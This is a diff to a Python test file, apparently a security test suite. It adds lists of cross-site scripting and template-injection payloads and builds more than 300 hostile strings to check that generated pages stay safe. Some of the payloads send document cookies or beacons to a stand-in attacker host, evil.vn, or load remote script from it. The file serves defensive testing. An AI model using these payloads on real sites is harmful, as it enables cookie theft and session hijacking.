@@ -37,6 +37,53 @@ HOSTILE = [
     "`${document.title=1}`",
     "%s %(x)s {0} {x}",
 ]
+ACTIONS = [
+    "document.title='pwned'",
+    "top.pwned=1",
+    "fetch('http://evil.vn/?'+document.cookie)",
+    "new Image().src='http://evil.vn/a.png'",
+    "location='http://evil.vn/'",
+    "import('http://evil.vn/a.js')",
+    "eval('document.title=1')",
+    "window.open('http://evil.vn/')",
+    "navigator.sendBeacon('http://evil.vn/', 'x')",
+]
+"""What a page must never do."""
+CARRIERS = [
+    "<script>{}</script>",
+    "<SCRIPT >{}</SCRIPT/x>",
+    "</title></textarea></style></noscript></script><script>{}</script>",
+    "--!><script>{}</script>",
+    '<script src="data:text/javascript,{}"></script>',
+    '<img src=x onerror="{}">',
+    "<img/src=x/onerror={}>",
+    '<svg onload="{}">',
+    '<svg><animate onbegin="{}" attributeName=x dur=1s>',
+    '<svg><set onbegin="{}" attributeName=x dur=1s>',
+    '<body onload="{}">',
+    '<details open ontoggle="{}">',
+    '<video><source onerror="{}">',
+    '<input autofocus onfocus="{}">',
+    '<marquee onstart="{}">',
+    '<iframe src="javascript:{}"></iframe>',
+    '<iframe srcdoc="<script>{}</script>"></iframe>',
+    '<object data="javascript:{}"></object>',
+    '<a href="javascript:{}" id=x>x</a>',
+    '<form action="javascript:{}"><button>x</button></form>',
+    '<math><mtext></p><style><img src=x onerror="{}"></style>',
+    '" onmouseover="{}" style="position:fixed;inset:0" x="',
+    "' onfocus='{}' autofocus tabindex=1 x='",
+    "` onload=`{}`",
+    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
+    '\\");{};//',
+    "'-({})-'",
+    "${{{{{}}}}}",
+    "#{{{}}}",
+    "{{{{ {} }}}}",
+    "{{% {} %}}",
+    "<%= {} %>",
+]
+"""Ways to make a browser, a template or a script of ours do it."""
 BIDI = ["học\u202ebổng", "a\u2066b", "\u200f99 suất", "x\u061cy", "\u202d\u2069", "a\u2028b", "a\x85b", "a\x1bb"]
 ADDRESSES = [
     "javascript:document.title='pwned'",
@@ -60,6 +107,10 @@ ADDRESSES = [
     "2015/hoc bong.html",
     "",
 ]
+
+
+STRINGS = list(dict.fromkeys([*HOSTILE, *BIDI, *(carrier.format(act) for carrier in CARRIERS for act in ACTIONS)]))
+"""More than 300 of them."""
 
 
 def hostile_record(words: str, uri: str) -> PageRecord:
